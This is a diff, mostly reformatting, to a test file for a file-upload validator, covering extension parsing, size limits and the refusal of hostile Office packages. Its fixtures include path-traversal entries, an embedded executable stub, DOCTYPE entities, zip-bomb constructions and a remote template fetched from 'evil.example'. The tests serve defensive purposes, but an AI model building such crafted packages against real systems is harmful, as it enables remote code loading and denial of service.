@@ -8,7 +8,8 @@ const MAIN = {
   xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
   docm: 'application/vnd.ms-word.document.macroEnabled.main+xml',
 }
-const types = (main: string) => strToU8(`<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`)
+const types = (main: string) =>
+  strToU8(`<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`)
 const packed = (main: string, more: Zippable = {}) =>
   zipSync({ '[Content_Types].xml': types(main), 'word/document.xml': strToU8('<w:document/>'), ...more })
 
@@ -23,15 +24,63 @@ function png(width: number, height: number): Uint8Array {
   return bytes
 }
 const jpeg = (width: number, height: number) =>
-  Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0, 0xff, 0xc0, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0, 0xff, 0xd9])
+  Uint8Array.from([
+    0xff,
+    0xd8,
+    0xff,
+    0xe0,
+    0,
+    4,
+    0,
+    0,
+    0xff,
+    0xc0,
+    0,
+    11,
+    8,
+    height >> 8,
+    height & 255,
+    width >> 8,
+    width & 255,
+    1,
+    1,
+    0x11,
+    0,
+    0xff,
+    0xd9,
+  ])
 const pdf = strToU8('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer<<>>\n%%EOF')
 const exe = Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0])
 
 describe('a name', () => {
   it('is taken by its last ending, in any case and width', () => {
-    expect(EXTENSIONS).toEqual(['bmp', 'csv', 'docx', 'gif', 'jfif', 'jpeg', 'jpg', 'pdf', 'png', 'pptx', 'rtf', 'tif', 'txt', 'xlsb', 'xlsx', 'xps'])
+    expect(EXTENSIONS).toEqual([
+      'bmp',
+      'csv',
+      'docx',
+      'gif',
+      'jfif',
+      'jpeg',
+      'jpg',
+      'pdf',
+      'png',
+      'pptx',
+      'rtf',
+      'tif',
+      'txt',
+      'xlsb',
+      'xlsx',
+      'xps',
+    ])
     expect(['履歴書.PDF', '履歴書．ＰＤＦ', 'a.exe.pdf'].map(extensionOf)).toEqual(['pdf', 'pdf', 'pdf'])
-    expect(['履歴書', 'a.pdf.exe', '写真.heic', 'a.svg', 'a.constructor', '.pdf '].map(extensionOf)).toEqual([null, null, null, null, null, 'pdf'])
+    expect(['履歴書', 'a.pdf.exe', '写真.heic', 'a.svg', 'a.constructor', '.pdf '].map(extensionOf)).toEqual([
+      null,
+      null,
+      null,
+      null,
+      null,
+      'pdf',
+    ])
   })
 
   it('is kept without folders, control characters and marks that turn the direction of writing', () => {
@@ -48,7 +97,10 @@ describe('a name', () => {
   it('and a size up to the limit are no problem, a byte more is', () => {
     const policy = { fileBytes: 10 * 1024 * 1024 }
     expect(problemsOfFile({ name: 'a.pdf', size: policy.fileBytes }, policy)).toEqual([])
-    expect(problemsOfFile({ name: 'a.exe', size: policy.fileBytes + 1 }, policy).map(({ code }) => code)).toEqual(['FILE_TYPE', 'FILE_SIZE'])
+    expect(problemsOfFile({ name: 'a.exe', size: policy.fileBytes + 1 }, policy).map(({ code }) => code)).toEqual([
+      'FILE_TYPE',
+      'FILE_SIZE',
+    ])
     expect(problemsOfFile({ name: 'a.pdf', size: 0 }, policy).map(({ code }) => code)).toEqual(['FILE_SIZE'])
   })
 })
@@ -101,22 +153,35 @@ describe('a package', () => {
     ['with an embedded object', () => packed(MAIN.docx, { 'word/embeddings/oleObject1.bin': exe })],
     ['that climbs out of its folder', () => packed(MAIN.docx, { '../../evil.xml': strToU8('x') })],
     ['with an absolute path', () => packed(MAIN.docx, { '/etc/passwd': strToU8('x') })],
-    ['that fetches its template from elsewhere', () =>
-      packed(MAIN.docx, {
-        'word/_rels/settings.xml.rels': strToU8(
-          '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
-        ),
-      })],
+    [
+      'that fetches its template from elsewhere',
+      () =>
+        packed(MAIN.docx, {
+          'word/_rels/settings.xml.rels': strToU8(
+            '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+          ),
+        }),
+    ],
     ['with a document type', () => packed(MAIN.docx, { '_rels/.rels': strToU8('<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>') })],
-    ['of more than 2,000 entries', () => packed(MAIN.docx, Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`word/${i}.xml`, strToU8('x')])))],
-    ['that unpacks to more than a hundred times its size', () => packed(MAIN.docx, { 'word/media/a.xml': new Uint8Array(20 * 1024 * 1024) })],
-    ['that says it unpacks to more than 100 MB', () => {
-      const zip = packed(MAIN.docx, { 'word/media/a.xml': Uint8Array.from({ length: 2_000_000 }, (_, i) => (i * 7919) >> 3) })
-      const view = new DataView(zip.buffer)
-      for (let at = 0; at < zip.length - 46; at++)
-        if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 2_000_000) view.setUint32(at + 24, 101 * 1024 * 1024, true)
-      return zip
-    }],
+    [
+      'of more than 2,000 entries',
+      () => packed(MAIN.docx, Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`word/${i}.xml`, strToU8('x')]))),
+    ],
+    [
+      'that unpacks to more than a hundred times its size',
+      () => packed(MAIN.docx, { 'word/media/a.xml': new Uint8Array(20 * 1024 * 1024) }),
+    ],
+    [
+      'that says it unpacks to more than 100 MB',
+      () => {
+        const zip = packed(MAIN.docx, { 'word/media/a.xml': Uint8Array.from({ length: 2_000_000 }, (_, i) => (i * 7919) >> 3) })
+        const view = new DataView(zip.buffer)
+        for (let at = 0; at < zip.length - 46; at++)
+          if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 2_000_000)
+            view.setUint32(at + 24, 101 * 1024 * 1024, true)
+        return zip
+      },
+    ],
   ]
   it.each(refused)('%s is refused', async (_, make) => {
     expect(await isSoundContent('docx', make())).toBe(false)
